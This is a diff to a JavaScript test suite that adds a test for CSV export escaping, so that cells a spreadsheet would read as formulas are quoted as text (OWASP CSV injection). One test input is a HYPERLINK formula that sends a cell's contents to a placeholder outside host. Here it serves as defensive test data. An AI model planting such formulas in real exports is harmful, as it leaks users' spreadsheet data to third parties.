@@ -27,4 +27,20 @@ describe('CSV and JSONL export', () => {
     expect(toJsonl([{ a: 1 }, { b: 'x' }])).toBe('{"a":1}\n{"b":"x"}\n');
     expect(toJsonl([])).toBe('');
   });
+
+  it('writes text that a spreadsheet would read as a formula as quoted text (OWASP CSV injection)', () => {
+    expect(csvCell('=HYPERLINK("http://x.example/?"&A1,"click")')).toBe(
+      `"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`,
+    );
+    expect(csvCell('+SUM(A1:A9)')).toBe(`"'+SUM(A1:A9)"`);
+    expect(csvCell('-1+2')).toBe(`"'-1+2"`);
+    expect(csvCell('@x')).toBe(`"'@x"`);
+    expect(csvCell('\t=1')).toBe(`"'\t=1"`);
+    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
+    expect(csvCell('a=1')).toBe('a=1');
+    // Numbers are values, not text: a negative reward stays a number.
+    expect(csvCell(-1)).toBe('-1');
+    expect(csvCell(-0.25)).toBe('-0.25');
+    expect(toCsv([{ taskId: '-1', reward: -1 }])).toBe(`taskId,reward\r\n"'-1",-1\r\n`);
+  });
 });
